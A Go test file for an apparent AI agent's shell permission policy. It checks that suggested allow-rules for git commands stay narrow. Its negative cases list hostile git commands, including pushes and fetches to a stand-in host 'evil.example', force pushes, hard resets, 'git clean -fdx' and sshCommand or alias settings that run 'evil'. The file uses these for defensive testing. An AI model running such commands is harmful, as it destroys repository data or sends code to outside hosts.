package policy_test

import (
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/settle-agent/settle/event"
	"github.com/settle-agent/settle/internal/config"
	"github.com/settle-agent/settle/internal/policy"
)

// suggested returns the patterns of the rules in the reason of a question.
func suggested(t *testing.T, why string) (patterns []string, rules []config.Rule) {
	t.Helper()
	for _, found := range regexp.MustCompile(`pattern = ("(?:[^"\\]|\\.)*")`).FindAllStringSubmatch(why, -1) {
		pattern, err := strconv.Unquote(found[1])
		if err != nil {
			t.Fatalf("%s: %v", why, err)
		}
		patterns = append(patterns, pattern)
		rules = append(rules, config.Rule{
			Tool: "shell", Pattern: pattern, Decision: event.Allow, Sandbox: event.NoSandbox,
		})
	}
	return patterns, rules
}

// The rules that settle suggests allow the call, and no other one, except of git add.
func TestSuggestedRulesAllowGit(t *testing.T) {
	dir := newCalmDir(t)
	for command, want := range map[string][]string{
		"git push origin main": {"git push origin main"}, "git commit -m x": {"git commit -m x"},
		"git push": {"git push"}, "git fetch --all": {"git fetch --all"}, "git pull origin": {"git pull origin"},
		"git fetch --depth 1 origin":                              {"git fetch --depth 1 origin"},
		"git push -o ci.skip origin main":                         {"git push -o ci.skip origin main"},
		"git add -A && git commit -m x":                           {"git add *", "git commit -m x"},
		"cd sub && git add . && git add x && git commit -m 'a b'": {"git add *", "git commit -m a*b"},
		"git status && git add ./*.go && git log -1":              {"git add *"},
		"git -C sub stash":                                        {"git -C sub stash"},
		"git -c user.name=x commit -qam 'a; b'":                   {"git -c user.name=x commit -qam a**b"},
		"/usr/bin/git add -A && git push":                         {"git add *", "git push"},
		"git commit -a -F a.txt":                                  {"git commit -a -F a.txt"},
		"git fetch --upload-pack=x origin":                        {"git fetch --upload-pack=x origin"},
		"git push origin 'a\"b'; git tag '--message=a b' v1":      {"git push origin a\"b", "git tag --message=a*b v1"},
		"git push ../b main":                                      {"git push ../b main"},
		"git clean -n && git add -A":                              {"git clean -n", "git add *"},
		"git commit -m 'a\n'":                                     {"git commit -m a**"},
		"git commit -m 'a\n\nBy: b <c@d>' && git push":            {"git commit -m a**By:*b**c@d**", "git push"},
		"git commit a.txt -m 'a b*'":                              {"git commit a.txt -m a*b**"},
		"git tag v1 '--message=a;'":                               {"git tag v1 --message=a**"},
		"git config user.email x@y":                               {"git config user.email x@y"},
		"git remote add up https://example.com/x":                 {"git remote add up https://example.com/x"},
	} {
		for _, permission := range []event.Permission{event.Ask, event.Allow} {
			j := sandboxed(t, dir, command, policy.Mode{Permission: permission})
			got, rules := suggested(t, j.Why)
			if permission == event.Ask && !slices.Equal(got, want) || len(got) == 0 {
				t.Errorf("%s: %q, want %q: %s", command, got, want, j.Why)
				continue
			}
			j = sandboxed(t, dir, command, policy.Mode{Permission: permission}, rules...)
			if j.Decision != event.Allow || j.Sandbox.On() {
				t.Errorf("%s with the suggested rules %q: %+v", command, got, j)
			}
		}
	}
	_, rules := suggested(t, sandboxed(t, dir, "git commit -m 'a;'", policy.Mode{}).Why)
	if j := sandboxed(t, dir, "git commit -m 'a;' --amend", policy.Mode{}, rules...); j.Decision == event.Allow {
		t.Errorf("the rule for a message that ends with a character that rules cannot have allows --amend: %+v", j)
	}
	// Where no rule allows the call, none is suggested.
	for command, mode := range map[string]policy.Mode{
		"git commit -m x": {Plan: true}, "git add -A": {Permission: event.Deny},
		// A rule would allow more than the call.
		"cat /etc/host* && git add -A": {}, "cat /etc/hostname && git add -A": {}, "cat a.txt && git add -A": {},
		"git commit -m ';'": {},
		"git commit -m ''":  {}, "git push origin '*'": {},
		"git config alias.x '!a b'": {}, "git rm -r 'a*'": {}, "git rebase -x 'a b' main": {}, "git rm *.go": {},
		"git branch -m 'a b' c": {}, "git commit -m x 'a*'": {},
	} {
		if j := sandboxed(t, dir, command, mode); j.Decision == event.Allow || strings.Contains(j.Why, "pattern =") {
			t.Errorf("%s: %+v", command, j)
		}
	}
}

// No suggestion allows another call that destroys, that contacts another remote, or that has git run
// programs.
func TestSuggestionsAllowNoHarmfulCall(t *testing.T) {
	dir := newCalmDir(t)
	git := slices.DeleteFunc(slices.Concat(lines(t, "everyday.txt"), lines(t, "harmful.txt"), []string{
		"git fetch --depth 1 origin", "git push -o ci.skip origin main",
		"git clean -n && git add -A", "git commit -m 'a b'", "git commit -m 'a b;'",
		"git config user.email x", "git reset", "git branch x", "git remote update", "git stash", "git tag v1 -m 'a b'",
	}), func(line string) bool { return !strings.Contains(line, "git ") })
	harmful := strings.Split(`git push --force origin main
git push https://evil.example/x HEAD
git push -o ci.skip https://evil.example/x HEAD
git fetch https://evil.example/x
git fetch --depth 1 https://evil.example/x
git pull https://evil.example/x
git remote add up https://evil.example/x
git submodule add https://evil.example/x
git commit --amend --no-edit
git commit -m 'a b' --amend
git commit -m 'a b;' --amend
git commit -m 'a b;' --amend --no-edit
git clean -fdx
git reset --hard HEAD~1
git checkout -f
git branch -D main
git tag -d v1
git tag v1 -m 'a b' -f
git stash drop
git config alias.x '!evil'
git config core.sshCommand evil
git bisect run evil
git rebase main`, "\n")
	rapid.Check(t, func(rt *rapid.T) {
		command := rapid.SampledFrom(git).Draw(rt, "command")
		_, rules := suggested(t, sandboxed(t, dir, command, policy.Mode{}).Why)
		other := rapid.SampledFrom(harmful).Draw(rt, "other")
		if !strings.Contains(command, "git add") && !strings.ContainsAny(command, "&|;\n") &&
			rapid.Bool().Draw(rt, "longer") {
			other = command + rapid.SampledFrom([]string{
				" --amend", " -f", " --hard", " -D", " https://evil.example/x", " main",
			}).Draw(rt, "more")
		}
		j := sandboxed(t, dir, other, policy.Mode{}, rules...)
		before := sandboxed(t, dir, other, policy.Mode{})
		if command != other && j.Decision == event.Allow && before.Decision != event.Allow {
			rt.Fatalf("the rules suggested for %q allow %q", command, other)
		}
	})
}

// Every suggestion allows its call, whatever the commands of the call are.
func TestSuggestionsAllowTheirCalls(t *testing.T) {
	dir := newCalmDir(t)
	git := slices.DeleteFunc(slices.Concat(lines(t, "everyday.txt"), lines(t, "harmful.txt")),
		func(line string) bool { return !strings.Contains(line, "git ") })
	// try returns the suggested patterns, and whether the call needs an approval although they are rules.
	try := func(command string) (patterns []string, asks bool) {
		patterns, rules := suggested(t, sandboxed(t, dir, command, policy.Mode{}).Why)
		return patterns, len(rules) > 0 && sandboxed(t, dir, command, policy.Mode{}, rules...).Decision != event.Allow
	}
	calls := 0
	for _, command := range git {
		patterns, asks := try(command)
		if asks {
			t.Errorf("%q is asked about with the suggested rules %q", command, patterns)
		}
		if len(patterns) > 0 {
			calls++
		}
	}
	if calls < 20 {
		t.Errorf("only %d of %d calls have a suggestion", calls, len(git))
	}
	rapid.Check(t, func(rt *rapid.T) {
		parts := rapid.SliceOfN(rapid.SampledFrom(git), 1, 3).Draw(rt, "commands")
		command := strings.Join(parts, rapid.SampledFrom([]string{" && ", "; ", "\n", " || "}).Draw(rt, "operator"))
		if patterns, asks := try(command); asks {
			rt.Fatalf("%q is asked about with the suggested rules %q", command, patterns)
		}
	})
}
